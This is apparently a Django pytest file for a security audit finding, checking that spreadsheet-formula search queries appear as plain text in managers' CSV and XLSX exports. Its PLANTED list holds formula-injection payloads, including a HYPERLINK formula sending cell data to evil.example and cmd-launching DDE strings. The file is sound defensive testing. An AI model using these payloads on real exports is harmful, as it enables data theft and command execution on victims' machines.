"""Security audit 2026-12, finding 6: a search word or name that looks like a spreadsheet
formula reaches the managers' CSV and XLSX exports as text, never as a formula."""

import csv
import io
import zipfile

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from openpyxl import load_workbook

from tarjotin.staff.models import StaffRole

pytestmark = pytest.mark.django_db
PLANTED = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klikkaa")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'/c notepad'!A1",
    "-2+3+cmd|'/c calc'!A1",
]


@pytest.fixture
def manager_client(client):
    for query in PLANTED:
        for _time in range(6):  # past the privacy threshold of the query tables
            client.get("/search/", {"q": query})
    user = User.objects.create_user("vientijohtaja", "vienti@example.org", "x" * 12)
    StaffRole.objects.create(user=user, role="manager")
    client.force_login(user)
    return client


def test_formulas_are_text_in_the_xlsx_export(manager_client):
    content = manager_client.get(reverse("indicators:export", args=["xlsx"])).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if "worksheets/" in n]
    assert sheets and not any("<f>" in sheet for sheet in sheets)
    book = load_workbook(io.BytesIO(content))
    texts = {c.value for sheet in book for row in sheet.iter_rows() for c in row}
    assert any(isinstance(t, str) and "hyperlink" in t.lower() for t in texts)  # it is there


def test_formulas_are_quoted_in_the_csv_export(manager_client):
    answer = manager_client.get(reverse("indicators:export", args=["csv"]))
    text = answer.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("hyperlink" in cell.lower() for cell in cells)
    risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [cell for cell in risky if not _number(cell)] == []


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
